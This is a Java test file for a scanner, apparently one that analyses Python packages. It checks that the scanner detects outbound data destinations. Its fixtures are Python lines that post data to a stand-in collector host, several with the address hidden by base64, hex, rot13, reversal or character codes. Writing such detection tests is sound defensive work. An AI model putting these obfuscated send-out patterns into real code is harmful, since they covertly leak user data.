package dev.assay.scanners.pypi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.finding.Via;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Where Python sends data to, however the address is written. */
class PythonDestinationsTest {

    private static final String IMPORTS =
            """
            import os, codecs, base64, json, socket, smtplib, http.client, urllib.request
            import requests, httpx, aiohttp, websockets, boto3
            from urllib.parse import urljoin
            """;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "requests.post('https://collector.club/x', json=data)",
                "requests.get(url='https://collector.club/x')",
                "requests.request('POST', 'https://collector.club/x', data=data)",
                "requests.Session().post('https://collector.club/x', data)",
                "httpx.post('https://collector.club', json=data)",
                "httpx.Client(base_url='https://collector.club').post('/x', json=data)",
                "urllib.request.urlopen('https://collector.club/x', data)",
                "urllib.request.urlopen(urllib.request.Request('https://collector.club', data=data))",
                "http.client.HTTPSConnection('collector.club').request('POST', '/x', data)",
                "smtplib.SMTP('collector.club', 587).sendmail(a, b, data)",
                "socket.create_connection(('collector.club', 443))",
                "boto3.client('s3', endpoint_url='https://collector.club')",
            })
    void librariesAreKnown(String statement) {
        assertThat(PythonSample.of(IMPORTS + "def send(data, a, b):\n    " + statement).contacted())
                .containsExactly("collector.club");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "async with httpx.AsyncClient() as client:\n        await client.post('https://collector.club', json=data)",
                "async with aiohttp.ClientSession() as s:\n        async with s.post('https://collector.club', json=data) as r:\n            return await r.json()",
                "async with websockets.connect('wss://collector.club') as ws:\n        await ws.send(data)",
                "client = httpx.AsyncClient(base_url='https://collector.club')\n    await client.get('/x')",
                "x = httpx.AsyncClient(base_url='https://collector.club')\n    await x.get('users')",
            })
    void clientsAreFollowedIntoTheirBlock(String statement) {
        assertThat(PythonSample.of(IMPORTS + "async def send(data):\n    " + statement).contacted())
                .containsExactly("collector.club");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'https://' + 'collector' + '.club'",
                "f'https://{name}.club/x'",
                "'https://%s.club' % name",
                "'https://%s.%s' % (name, 'club')",
                "'https://{}.club'.format(name)",
                "'https://{host}.club'.format(host=name)",
                "''.join(['https://', name, '.club'])",
                "'.'.join(('https://collector', 'club'))",
                "'HTTPS://COLLECTOR.CLUB'.lower()",
                "os.getenv('URL', 'https://collector.club')",
                "os.environ.get('URL', 'https://collector.club')",
                "os.environ.get('URL') or 'https://collector.club'",
                "'xxhttps://collector.club'[2:]",
                "urljoin('https://collector.club/', '/x')",
                "{'url': 'https://collector.club'}['url']",
                "{'url': 'https://collector.club'}.get('url')",
            })
    void foldedAddressesAreRead(String expression) {
        assertThat(address(expression).contacted()).containsExactly("collector.club");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0b3IuY2x1Yg==').decode()",
                "base64.b64decode(b'aHR0cHM6Ly9jb2xsZWN0b3IuY2x1Yg==').decode('utf-8')",
                "bytes.fromhex('68747470733a2f2f636f6c6c6563746f722e636c7562').decode()",
                "codecs.decode('uggcf://pbyyrpgbe.pyho', 'rot13')",
                "codecs.decode('uggcf://pbyyrpgbe.pyho', 'rot_13')",
                "'bulc.rotcelloc//:sptth'[::-1]",
                "''.join(reversed('bulc.rotcelloc//:sptth'))",
                "''.join(chr(c) for c in [104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,99,108,117,98])",
                "''.join(map(chr, [104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,99,108,117,98]))",
                "bytes([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,99,108,117,98]).decode()",
                "base64.b32decode('NB2HI4DTHIXS6Y3PNRWGKY3UN5ZC4Y3MOVRA====').decode()",
            })
    void decodedAddressesAreReadAndToldAsDecoded(String expression) {
        var sample = address(expression);

        assertThat(sample.contacted()).containsExactly("collector.club");
        assertThat(sample.facts(FindingKind.OUTBOUND_DOMAIN))
                .allMatch(fact -> fact.via() == Via.DECODED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "from mail.out import send\nsend",
                "from mail.out import send as s\ns",
                "from mail import out\nout.send",
                "import mail.out as o\no.send",
            })
    void whatACallerHandsToAFunctionOfAnotherModuleIsFollowed(String callee) {
        var sample =
                PythonSample.of(callee + "('https://api.orvanda.zz/', {'bcc': 'me@orvanda.zz'})")
                        .with("mail/__init__.py", "")
                        .with(
                                "mail/out.py",
                                "import requests\ndef send(u, b):\n    return requests.post(u, json=b)\n");

        assertThat(sample.contacted()).containsExactly("api.orvanda.zz");
        assertThat(sample.values(FindingKind.PAYLOAD_FIELD)).contains("api.orvanda.zz bcc");
    }

    @Test
    void constantsComeFromOtherModulesAndFromData() {
        var sample =
                new PythonSample()
                        .with("mail/__init__.py", "")
                        .with("mail/config.py", "BASE = 'https://collector.club'\nHOST = 'x'")
                        .with("mail/data.json", "{\"api\": \"https://data.club\"}")
                        .with(
                                "mail/server.py",
                                """
                                import json
                                from pathlib import Path
                                import requests
                                from .config import BASE
                                from mail import config
                                DATA = json.loads((Path(__file__).parent / "data.json").read_text())
                                def one(x): requests.post(BASE + "/a", json=x)
                                def two(x): requests.post(config.BASE + "/b", json=x)
                                def three(x): requests.post(DATA["api"], json=x)
                                """);

        assertThat(sample.contacted()).containsExactlyInAnyOrder("collector.club", "data.club");
    }

    @Test
    void whatIsOnlyNamedIsAMention() {
        var sample =
                PythonSample.of(
                        """
                        def help():
                            '''See https://docs.club for more.'''
                            raise ValueError("see https://errors.club")
                        """);

        assertThat(sample.contacted()).isEmpty();
        assertThat(sample.mentioned()).containsExactly("errors.club");
    }

    private static PythonSample address(String expression) {
        return PythonSample.of(
                IMPORTS
                        + "name = 'collector'\ndef send(data):\n    requests.post("
                        + expression
                        + ", json=data)\n");
    }
}
